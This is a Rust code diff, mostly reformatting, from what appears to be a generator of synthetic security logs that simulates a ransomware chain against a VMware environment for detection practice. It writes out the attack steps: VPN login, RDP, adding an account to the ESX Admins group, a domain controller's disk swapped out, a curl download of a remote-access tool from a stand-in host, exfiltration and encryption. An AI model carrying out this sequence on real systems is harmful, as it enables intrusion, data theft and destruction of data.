@@ -38,7 +38,13 @@ pub fn plot(lab: &mut Lab) {
 /// A login with the right password from a place where its owner has never been, on a new device.
 fn entry(lab: &mut Lab, who: &Who, t: T) {
     let w = lab.w.clone();
-    lab.step("vpn-login", &w.vpn.name, "initial-access", &["T1078", "T1133", "T1078.002"], "an administrator logs in over VPN from an address, a device and a client never seen, after failures");
+    lab.step(
+        "vpn-login",
+        &w.vpn.name,
+        "initial-access",
+        &["T1078", "T1133", "T1078.002"],
+        "an administrator logs in over VPN from an address, a device and a client never seen, after failures",
+    );
     let mut user = who.user.clone();
     user.agent = "Pulse-Secure/22.7.2.28369 (Windows 11) Pulse/22.7.2.28369".to_owned();
     user.pc = "DESKTOP-9F3K2M1".to_owned();
@@ -47,9 +53,20 @@ fn entry(lab: &mut Lab, who: &Who, t: T) {
     }
     let inner = format!("{}.14", w.pool);
     let s = lab.ics_login(t, &user, &who.from, &inner, Some("vpn-login!"));
-    lab.tls(t - SEC, &Flow::tcp(&who.from, &w.vpn.ip, 443, "ssl", 9 * HOUR, (300_000_000, 700_000_000)), &format!("remote.{}", w.domain), Some("vpn-login"));
+    lab.tls(
+        t - SEC,
+        &Flow::tcp(&who.from, &w.vpn.ip, 443, "ssl", 9 * HOUR, (300_000_000, 700_000_000)),
+        &format!("remote.{}", w.domain),
+        Some("vpn-login"),
+    );
     lab.ics_logout(t + 9 * HOUR, &s, Some("vpn-login"));
-    lab.step("rdp", &w.dc.name, "lateral-movement", &["T1021.001", "T1078", "T1078.002", "T1021"], "remote desktop from the VPN address to the domain controller and a desktop");
+    lab.step(
+        "rdp",
+        &w.dc.name,
+        "lateral-movement",
+        &["T1021.001", "T1078", "T1078.002", "T1021"],
+        "remote desktop from the VPN address to the domain controller and a desktop",
+    );
     for (n, host) in [&w.dc].into_iter().chain(w.desks.first()).enumerate() {
         let at = t + (8 + n as T * 9) * MIN;
         let open = lab.rdp(host, at, &user, &inner, &user.pc, Some("rdp!"));
@@ -67,7 +84,13 @@ fn entry(lab: &mut Lab, who: &Who, t: T) {
 
 fn directory(lab: &mut Lab, who: &Who, t: T) {
     let w = lab.w.clone();
-    lab.step("group-add", &w.dc.name, "persistence", &["T1098", "T1136", "T1136.002", "T1484", "T1098.007", "T1078.002"], "an account added to the group that hypervisors take for administrators");
+    lab.step(
+        "group-add",
+        &w.dc.name,
+        "persistence",
+        &["T1098", "T1136", "T1136.002", "T1484", "T1098.007", "T1078.002"],
+        "an account added to the group that hypervisors take for administrators",
+    );
     let Some(member) = w.users.iter().rev().find(|u| !u.admin).cloned() else { return };
     lab.group_add(&w.dc, t, &who.user, &member, "ESX Admins", 4728, Some("group-add!"));
     lab.group_add(&w.dc, t + MIN, &who.user, &member, "vSphere Administrators", 4756, Some("group-add!"));
@@ -77,8 +100,20 @@ fn directory(lab: &mut Lab, who: &Who, t: T) {
 
 fn vcenter(lab: &mut Lab, who: &Who, t: T) {
     let w = lab.w.clone();
-    lab.step("vcenter-login", &w.vcsa.name, "lateral-movement", &["T1078", "T1021", "T1078.002", "T1021.007"], "the administrator's account in vCenter, from the VPN address");
-    lab.step("ssh-root", &w.vcsa.name, "persistence", &["T1021.004", "T1098", "T1562", "T1562.004", "T1531", "T1021"], "SSH switched on on every hypervisor and root's password set anew");
+    lab.step(
+        "vcenter-login",
+        &w.vcsa.name,
+        "lateral-movement",
+        &["T1078", "T1021", "T1078.002", "T1021.007"],
+        "the administrator's account in vCenter, from the VPN address",
+    );
+    lab.step(
+        "ssh-root",
+        &w.vcsa.name,
+        "persistence",
+        &["T1021.004", "T1098", "T1562", "T1562.004", "T1531", "T1021"],
+        "SSH switched on on every hypervisor and root's password set anew",
+    );
     let (upn, down) = (w.upn(&who.user.login), w.down(&who.user.login));
     let inner = format!("{}.14", w.pool);
     lab.vc_login(t, &upn, &down, &inner, Some("vcenter-login!"));
@@ -99,7 +134,13 @@ fn vcenter(lab: &mut Lab, who: &Who, t: T) {
 fn swap(lab: &mut Lab, who: &Who, t: T) {
     let w = lab.w.clone();
     let mark = Some("disk-swap!");
-    lab.step("disk-swap", &w.vcsa.name, "credential-access", &["T1003.003", "T1006", "T1003", "T1578"], "a domain controller switched off, its disk attached to another machine and detached again");
+    lab.step(
+        "disk-swap",
+        &w.vcsa.name,
+        "credential-access",
+        &["T1003.003", "T1006", "T1003", "T1578"],
+        "a domain controller switched off, its disk attached to another machine and detached again",
+    );
     let (Some(dc), Some(other)) = (w.vms.iter().find(|v| v.name == w.dc.name).cloned(), w.vms.last().cloned()) else { return };
     let Some(e) = w.esx.get(dc.esx) else { return };
     let down = w.down(&who.user.login);
@@ -109,7 +150,14 @@ fn swap(lab: &mut Lab, who: &Who, t: T) {
         let (method, kind, word) = if *on { ("powerOn", "VmPoweredOnEvent", "on") } else { ("powerOff", "VmPoweredOffEvent", "off") };
         lab.vpxd_task(at, 4 * SEC, &op_id, &format!("vm-{}", 1000 + dc.vmid), &format!("vim.VirtualMachine.{method}"), mark);
         lab.vm_power(dc.esx, at, &op, &dc.name, &dc.vmx(), *on, mark);
-        lab.vc_event(at + 4 * SEC, kind, &down, &w.datacenter, &format!("{} on  {} in {} is powered {word}", dc.name, e.fqdn, w.datacenter), mark);
+        lab.vc_event(
+            at + 4 * SEC,
+            kind,
+            &down,
+            &w.datacenter,
+            &format!("{} on  {} in {} is powered {word}", dc.name, e.fqdn, w.datacenter),
+            mark,
+        );
     }
     for (n, operation) in ["add", "remove"].iter().enumerate() {
         let at = t + (6 + n as T * 35) * MIN;
@@ -117,7 +165,10 @@ fn swap(lab: &mut Lab, who: &Who, t: T) {
         lab.vpxd_task(at, 2 * SEC, &op_id, &format!("vm-{}", 1000 + other.vmid), "vim.VirtualMachine.reconfigure", mark);
         lab.hostd_event(other.esx, at + SEC, &op, &format!("Reconfigured {} on {} in ha-datacenter", other.name, e.fqdn), mark);
         let first = format!("Reconfigured {} on {} in {}. ", other.name, e.fqdn, w.datacenter);
-        let second = format!("config.hardware.device(2001): (fileName = \"ds:///vmfs/volumes/{}/{}/{}.vmdk\", diskMode = \"persistent\"); operation = \"{operation}\"", dc.volume, dc.name, dc.name);
+        let second = format!(
+            "config.hardware.device(2001): (fileName = \"ds:///vmfs/volumes/{}/{}/{}.vmdk\", diskMode = \"persistent\"); operation = \"{operation}\"",
+            dc.volume, dc.name, dc.name
+        );
         lab.vc_event_parts(at + 2 * SEC, "VmReconfiguredEvent", &down, (&first, &second), mark);
     }
     lab.key("disk-swap", "exact", "vm", &dc.name);
@@ -128,14 +179,45 @@ fn swap(lab: &mut Lab, who: &Who, t: T) {
 /// Remote control software on vCenter's box, and data out.
 fn tool(lab: &mut Lab, who: &Who, t: T) {
     let w = lab.w.clone();
-    lab.step("remote-tool", &w.vcsa.name, "command-and-control", &["T1219", "T1071.001", "T1572", "T1071", "T1573"], "a remote access program on the vCenter appliance, always connected");
-    lab.vcsa_exec(t, ("root", 0), "/usr/bin/curl", &["curl", "-sSo", "/tmp/tp.tgz", "https://cdn.accessproxy.example/tp.tgz"], "/tmp", Some("remote-tool!"));
-    lab.vcsa_exec(t + MIN, ("root", 0), "/usr/local/bin/accessproxy", &["accessproxy", "start", "--token", "00000000"], "/tmp", Some("remote-tool!"));
+    lab.step(
+        "remote-tool",
+        &w.vcsa.name,
+        "command-and-control",
+        &["T1219", "T1071.001", "T1572", "T1071", "T1573"],
+        "a remote access program on the vCenter appliance, always connected",
+    );
+    lab.vcsa_exec(
+        t,
+        ("root", 0),
+        "/usr/bin/curl",
+        &["curl", "-sSo", "/tmp/tp.tgz", "https://cdn.accessproxy.example/tp.tgz"],
+        "/tmp",
+        Some("remote-tool!"),
+    );
+    lab.vcsa_exec(
+        t + MIN,
+        ("root", 0),
+        "/usr/local/bin/accessproxy",
+        &["accessproxy", "start", "--token", "00000000"],
+        "/tmp",
+        Some("remote-tool!"),
+    );
     acts::beacon(lab, &w.vcsa.ip, ("proxy.accessproxy.example", &who.c2), (t + 2 * MIN, t + 30 * HOUR), 10 * MIN, Some("remote-tool!"));
-    lab.step("exfiltration", &w.fs.name, "exfiltration", &["T1041", "T1048", "T1567", "T1567.002"], "the file server sends tens of gigabytes outside within an hour");
+    lab.step(
+        "exfiltration",
+        &w.fs.name,
+        "exfiltration",
+        &["T1041", "T1048", "T1567", "T1567.002"],
+        "the file server sends tens of gigabytes outside within an hour",
+    );
     for n in 0..4 {
         let bytes = 6_000_000_000 + lab.rng.below(3_000_000_000);
-        lab.tls(t + HOUR + n * 14 * MIN, &Flow::tcp(&w.fs.ip, &who.c2, 443, "ssl", 13 * MIN, (bytes, bytes / 2000)), "files.cloudstore.example", Some("exfiltration!"));
+        lab.tls(
+            t + HOUR + n * 14 * MIN,
+            &Flow::tcp(&w.fs.ip, &who.c2, 443, "ssl", 13 * MIN, (bytes, bytes / 2000)),
+            "files.cloudstore.example",
+            Some("exfiltration!"),
+        );
         lab.bytes_out += bytes;
     }
     lab.link("remote-tool", "exfiltration", "interval", "address", &who.c2);
@@ -147,7 +229,13 @@ fn tool(lab: &mut Lab, who: &Who, t: T) {
 /// Everything switched off and encrypted, host by host.
 fn hosts(lab: &mut Lab, who: &Who, t: T) {
     let w = lab.w.clone();
-    lab.step("encrypt", &w.vcsa.name, "impact", &["T1486", "T1489", "T1529", "T1059.004", "T1490", "T1485"], "machines switched off by a shell loop on each hypervisor and their files encrypted; backups deleted");
+    lab.step(
+        "encrypt",
+        &w.vcsa.name,
+        "impact",
+        &["T1486", "T1489", "T1529", "T1059.004", "T1490", "T1485"],
+        "machines switched off by a shell loop on each hypervisor and their files encrypted; backups deleted",
+    );
     let inner = format!("{}.14", w.pool);
     for (n, e) in w.esx.iter().enumerate() {
         let at = t + n as T * 12 * MIN;
